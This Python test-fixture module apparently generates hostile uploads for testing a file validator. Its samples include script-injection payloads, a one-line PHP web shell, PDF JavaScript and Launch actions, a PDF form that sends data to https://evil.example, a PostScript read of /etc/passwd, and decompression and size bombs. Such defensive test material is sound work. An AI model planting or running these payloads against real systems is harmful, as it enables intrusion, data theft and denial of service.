"""Hostile PDF, picture, sound and video files, made on the spot: {what it is: (name, content)}."""

import io
import struct
import zlib

from PIL import Image, PngImagePlugin

from tests import samples
from tests.news import hostile_packages

PAGE = b"<!doctype html><script>alert(document.domain)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PNG = b"\x89PNG\r\n\x1a\n"


def pdf(body=b"", *, head=b"", tail=b"", trailer=b"<</Root 1 0 R>>"):
    return (
        b"%PDF-1.4\n" + head + b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R>>endobj\n"
        + body
        + b"\ntrailer"
        + trailer
        + b"\n%%EOF\n"
        + tail
    )


def packed_objects(inner, more=b""):
    """Return an object stream that holds one object."""
    content = zlib.compress(b"9 0 " + inner)
    head = b"8 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode" + more
    return head + b"/Length %d>>\nstream\n" % len(content) + content + b"\nendstream endobj\n"


def pdfs():
    action = b"5 0 obj<</Type/Action/S/%s>>endobj"
    found = {
        "javascript": pdf(action % b"JavaScript/JS(app.alert\\(1\\))"),
        "javascript spelled": pdf(action % b"J#61vaScr#69pt/J#53(app.alert\\(1\\))"),
        "javascript in packed objects": pdf(packed_objects(b"<</S/JavaScript/JS(x)>>")),
        "script in packed objects, spelled": pdf(packed_objects(b"<</S/Rendition/#4AS(x)>>")),
        "rendition script": pdf(action % b"Rendition/JS(x)"),
        "launch": pdf(action % b"Launch/F(cmd.exe)"),
        "launch spelled": pdf(action % b"#4caunch/F(cmd.exe)"),
        "files inside": pdf(b"5 0 obj<</Type/EmbeddedFile>>stream\nMZ\nendstream endobj"),
        "names of files inside": pdf(b"5 0 obj<</Names<</EmbeddedFiles 6 0 R>>>>endobj"),
        "rich media": pdf(b"5 0 obj<</Subtype/RichMedia>>endobj"),
        "form that sends": pdf(action % b"SubmitForm/F(https://evil.example)"),
        "form that fetches": pdf(action % b"ImportData/F(x)"),
        "xfa": pdf(b"5 0 obj<</XFA[(a)6 0 R]>>endobj"),
        "locked": pdf(trailer=b"<</Root 1 0 R/Encrypt 5 0 R>>"),
        "locked by a dictionary": pdf(trailer=b"<</Encrypt<</Filter/Standard>>>>"),
        "locked at its beginning": pdf(bytes(9000), head=b"trailer<</Encrypt 5 0 R>>\n"),
        "package behind": pdf(tail=hostile_packages.raw([hostile_packages.one("a.txt")])),
        "package within": pdf(hostile_packages.raw([hostile_packages.one("a.txt")])),
        "page at its head": b"%PDF-1.4\n" + PAGE + pdf(),
        "page behind it": pdf(tail=PAGE),
        "page before it": PAGE + pdf(),
        "drawing at its head": b"%PDF-1.4\n" + SVG + pdf(),
        "no end": pdf()[:-8],
        "end too early": pdf(tail=b"x" * 5000),
        "only its name": b"%PDF-1.7",
        # These are damaged or foolish, not dangerous: they only must not cost anything.
        "~ a tree that bites its tail": pdf(b"2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]>>endobj"),
        "~ streams without end": pdf(b">>\nstream\n" * 900_000),
        "~ objects without end": pdf(b"1 0 obj " * 1_200_000),
        "~ a million pages": pdf(b"4 0 obj<</Type/Page>>endobj " * 350_000),
        "~ packed bomb": pdf(packed_objects(bytes(80 * 2**20))),
        "~ packed lie": pdf(packed_objects(b"x").replace(b"/N 1", b"/N 99999999")),
        "~ packed in a rare way": pdf(packed_objects(b"x", b"/DecodeParms<</Predictor 12>>")),
        "~ slashes without end": pdf(b"/J" * 5_000_000),
        "~ numbers without end": pdf(b"1" * 9_000_000 + b" 0 obj<<>>endobj"),
    }
    return {f"pdf, {kind}": ("a.pdf", content) for kind, content in found.items()}


def chunk(kind, content=b"", *, crc=None):
    check = zlib.crc32(kind + content) if crc is None else crc
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)


def png(width=64, height=64, *, before=b"", data=None, after=b"", depth=8, colour=2):
    header = struct.pack(">2I5B", width, height, depth, colour, 0, 0, 0)
    rows = zlib.compress(bytes(height * (1 + width * 3))) if data is None else data
    return PNG + chunk(b"IHDR", header) + before + chunk(b"IDAT", rows) + after + chunk(b"IEND")


def saved(kind="JPEG", size=(64, 48), **options):
    target = io.BytesIO()
    Image.new(options.pop("mode", "RGB"), size, options.pop("colour", None)).save(
        target, kind, **options
    )
    return target.getvalue()


def jpeg_sized(width, height):
    """Return a JPEG whose header claims another size."""
    content = saved()
    at = content.index(b"\xff\xc0") + 5
    return content[:at] + struct.pack(">2H", height, width) + content[at + 4 :]


def scans(count):
    """Return a progressive JPEG that is drawn ``count`` times more than needed."""
    content = saved(size=(4000, 3000), colour=(9, 99, 200), progressive=True)
    first = content.rindex(b"\xff\xda")
    return content[:first] + content[first:-2] * count + content[-2:]


def exif(loops=False):
    """Return EXIF of 60 kB, or whose directory leads back to itself for ever."""
    if loops:
        body = b"MM\0*\0\0\0\x08" + struct.pack(">HHHII", 1, 0x8769, 4, 1, 8) + struct.pack(">I", 8)
    else:
        body = (
            b"MM\0*\0\0\0\x08"
            + struct.pack(">H", 5000)
            + b"\x01\x0e\0\x02\xff\xff\xff\xff\0\0\0\0" * 5000
        )
    return b"Exif\0\0" + body[:65_000]


def pictures():
    zeros = zlib.compress(bytes(120 * 2**20))
    text = PngImagePlugin.PngInfo()
    text.add_text("x", "<script>alert(1)</script>")
    frames = {
        "save_all": True,
        "append_images": [Image.new("RGB", (64, 48), (n, 0, 0)) for n in range(150)],
    }
    found = {
        "svg": SVG,
        "svg with a head": b"<?xml version='1.0'?>\n" + SVG,
        "svg packed": zlib.compress(SVG),
        "page": PAGE,
        "page behind a mark": b"\xef\xbb\xbf" + PAGE,
        "php": b"<?php system($_GET['c']);",
        "gif with script": b"GIF89a/*" + bytes(9) + b"*/=1;alert(1)//" + bytes(30),
        "bmp with script": b"BM/*" + bytes(50) + b"*/alert(1)",
        "tiff": saved("TIFF"),
        "icon": saved("ICO"),
        "bmp": saved("BMP"),
        "gif": saved("GIF"),
        "jpeg 2000": b"\0\0\0\x0cjP  \r\n\x87\n" + bytes(60),
        "photoshop": b"8BPS\0\1" + bytes(60),
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd)(r) file\n",
        "30,000 × 30,000": png(30_000, 30_000, data=b"x"),
        "2 billion × 2 billion": png(2**31 - 1, 2**31 - 1, data=b"x"),
        "no width": png(0, 64, data=b"x"),
        "65,535 × 65,535 jpeg": jpeg_sized(65_535, 65_535),
        "12,000 × 12,000 png of zeros": png(12_000, 12_000, data=zeros),
        "compressed text bomb": png(before=chunk(b"zTXt", b"x\0\0" + zeros)),
        "international text bomb": png(before=chunk(b"iTXt", b"x\0\1\0\0\0" + zeros)),
        "broken checksum": PNG + chunk(b"IHDR", struct.pack(">2I5B", 9, 9, 8, 2, 0, 0, 0), crc=1),
        "jpeg drawn 500 times": scans(500),
        "webp header of 16,383 × 16,383": b"RIFF\x1e\0\0\0WEBPVP8L\x11\0\0\0\x2f"
        + struct.pack("<I", 16_382 | 16_382 << 14)
        + bytes(8),
        "wmf": b"\xd7\xcd\xc6\x9a" + bytes(60),
        "a program": b"MZ" + bytes(90),
        "a PDF": pdf(),
        "nothing": b"",
        # These hold a picture; what is kept must be the picture alone.
        "~ page behind a png": png() + PAGE,
        "~ page behind a jpeg": saved() + PAGE,
        "~ package behind a png": png() + samples.package({"a.txt": "a"}),
        "~ package behind a jpeg": saved() + samples.package({"a.exe": "MZ"}),
        "~ page behind a webp": saved("WEBP") + PAGE,
        "~ php in a comment": saved(comment=b"<?php system(1);"),
        "~ script in png text": saved("PNG", pnginfo=text),
        "~ page in xmp": saved(xmp=PAGE),
        "~ exif of 60 kB": saved(exif=exif()),
        "~ exif that leads back": saved(exif=exif(loops=True)),
        "~ profile bomb": png(before=chunk(b"iCCP", b"x\0\0" + zeros)),
        "~ more points than it says": png(data=zeros),
        "~ animation in png": saved("PNG", **frames),
        "~ animation in webp": saved("WEBP", **frames),
        "~ 5,000 × 5,000 png": saved("PNG", (5000, 5000), mode="1"),
        "~ 8,000 × 6,000 jpeg": saved(size=(8000, 6000), colour=(9, 99, 200)),
        "~ one point": saved(size=(1, 1)),
        "~ 60,000 × 1": saved(size=(60_000, 1)),
    }
    return {f"picture, {kind}": ("anh.jpg", content) for kind, content in found.items()}


def box(kind, content=b"", size=None):
    return struct.pack(">I", 8 + len(content) if size is None else size) + kind + content


def films():
    start, film, moov = (
        box(b"ftyp", b"isom" + bytes(8)),
        box(b"mdat", bytes(64)),
        box(b"moov", b"avc1"),
    )
    found = {
        "no head": moov + film,
        "no description": start + film,
        "no film": start + moov,
        "a box of 4 bytes": start + moov + box(b"free", size=4) + film,
        "a box beyond the end": start + moov + box(b"mdat", bytes(9), size=10**9),
        "a box of 2^63 bytes": start + moov + struct.pack(">I4sQ", 1, b"mdat", 2**63) + film,
        "a box of 64 bits cut off": start + moov + struct.pack(">I4s", 1, b"mdat"),
        "a million boxes": start + moov + film + box(b"free") * 1_000_000,
        "a million boxes before the film": start + box(b"moov") * 1_000_000 + film,
        "another encoding": start + box(b"moov", b"hev1") + film,
        "page behind it": start + moov + film + PAGE,
        "package behind it": start + moov + film + samples.package({"a.txt": "a"}),
        "head of no size": box(b"ftyp", b"isom", size=0) + moov + film,
        "~ page in a free box": start + box(b"free", PAGE) + moov + film,
    }
    return {f"film, {kind}": ("a.mp4", content) for kind, content in found.items()}


def sounds():
    found = {
        "only a tag": b"ID3\3\0\0\0\0\0\x09" + PAGE[:9],
        "a tag longer than the file": b"ID3\3\0\0\x7f\x7f\x7f\x7f" + PAGE,
        "a tag of no size": b"ID3\3\0\0\xff\xff\xff\xff" + PAGE,
        "a tag cut off": b"ID3\3",
        "two frames": samples.mp3(frames=2),
        "marks without end": b"\xff\xfb\x90\x00" + b"\xff" * 2_000_000,
        "~ marks that lie": b"\xff\xfb\x90\x00" * 500_000,
        "rubbish": samples.mp3() + bytes(70_000) + samples.mp3(),
        "~ page in the tag": samples.mp3(before=PAGE),
        "~ page behind it": samples.mp3(after=PAGE),
        "~ package behind it": samples.mp3(after=samples.package({"a.exe": "MZ"})),
        "~ page between the frames": samples.mp3() + PAGE + samples.mp3(),
        "~ old tag": samples.mp3(after=b"TAG" + PAGE.ljust(125)),
    }
    return {f"sound, {kind}": ("a.mp3", content) for kind, content in found.items()}


def cut_off():
    """Return each kind of file that is accepted, cut off early and late."""
    office = hostile_packages.office
    whole = {
        "a.pdf": pdf(b"%" * 4000),
        **{f"a{kind}": office(kind) for kind in (".docx", ".xlsx", ".pptx", ".odt", ".ods")},
        "a.zip": samples.package({"a.txt": "a" * 99}),
        "a.mp4": samples.mp4(),
        "anh.jpg": saved(size=(640, 480)),
        "anh.png": saved("PNG", (640, 480)),
        "anh.webp": saved("WEBP", (640, 480), colour=(9, 99, 200)),
    }
    found = {}
    for name, content in whole.items():
        for part in (1, 5, 9):
            found[f"{name} cut off after {part} tenths"] = (
                name,
                content[: len(content) * part // 10],
            )
    return found


def foreign():
    """Return what no office attaches."""
    found = {
        "rtf": b"{\\rtf1\\object}",
        "mail": b"From: a\r\nContent-Type: text/html\r\n\r\n<script>",
        "shortcut": b"L\0\0\0\1\x14\2\0" + bytes(60),
        "flash": b"CWS\x09" + bytes(60),
        "java": b"\xca\xfe\xba\xbe" + bytes(60),
        "android": b"dex\n035\0" + bytes(60),
        "webassembly": b"\0asm\1\0\0\0",
        "tar": b"a.txt".ljust(257, b"\0") + b"ustar\0" + bytes(250),
        "gzip": b"\x1f\x8b\x08" + bytes(60),
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(60),
        "rar": b"Rar!\x1a\x07\1\0" + bytes(60),
        "disc image": bytes(32_769) + b"CD001",
        "page": PAGE,
        "script": b"#!/bin/sh\n",
        "windows script": b"@echo off\r\n",
        "text": "Kế hoạch".encode(),
        "ogg": b"OggS" + bytes(60),
        "matroska": b"\x1a\x45\xdf\xa3" + bytes(60),
    }
    return {f"foreign, {kind}": ("a.pdf", content) for kind, content in found.items()}


def every():
    """Return all of them."""
    made = (pdfs, pictures, films, sounds, cut_off, foreign)
    return {kind: file for group in made for kind, file in group().items()}
